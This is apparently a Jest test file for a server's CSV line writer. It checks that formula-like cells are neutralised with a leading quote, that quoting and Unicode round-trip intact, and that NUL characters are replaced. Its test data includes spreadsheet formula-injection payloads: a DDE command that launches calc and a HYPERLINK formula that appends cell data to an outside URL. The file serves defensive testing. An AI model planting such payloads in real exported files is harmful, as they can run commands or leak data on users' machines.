import { describe, expect, test } from '@jest/globals';
import { csvLine } from '../../server/src/collect/csv/csv-line.ts';
import { parseCsv } from '../support/parse-csv.ts';

const cellOf = (value: Parameters<typeof csvLine>[0][number]) => parseCsv(csvLine([value], ','))[0]?.[0];

describe('a cell of a CSV file', () => {
  test.each([
    '=1+1',
    '+55 11 91234-5678',
    '-2+3',
    '@SUM(A1)',
    '=HYPERLINK("http://example.com?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '\t=1',
    '\rplain',
    '\nplain',
    '  =1+1',
    '＝1+1',
    '-',
  ])('%j is text, whatever a program would make of it', (text) => {
    expect(cellOf(text)).toBe(`'${text}`);
  });

  test.each(['-5', '-5.25', '-5,25', '0', '12', 'a=b', 'ana@example.com', '1-2', '', "'quoted"])(
    '%j stays as it was typed',
    (text) => {
      expect(cellOf(text)).toBe(text);
    },
  );

  test.each([
    'a "quoted" word',
    'a, b; c',
    'two\r\nlines',
    'two\nlines',
    ' spaces ',
    '"',
    'é 😀 \u2028 日本',
  ])('%j comes back whole', (text) => {
    expect(parseCsv(csvLine([text, 'next', text], ','))).toEqual([[text, 'next', text]]);
    expect(parseCsv(csvLine([text, 'next', text], ';'), ';')).toEqual([[text, 'next', text]]);
  });

  test('numbers are numbers, also below zero; nothing is an empty cell', () => {
    expect(csvLine([-5, 4.5, 0, true, false, null, 'x'], ',')).toBe('-5,4.5,0,true,false,,x\r\n');
    expect(csvLine([-5, 4.5, 1e21], ';')).toBe('-5;4,5;1e+21\r\n');
  });

  test('a NUL, at which programs stop reading, is shown as a sign', () => {
    expect(cellOf('a\u0000b')).toBe('a\uFFFDb');
  });
});
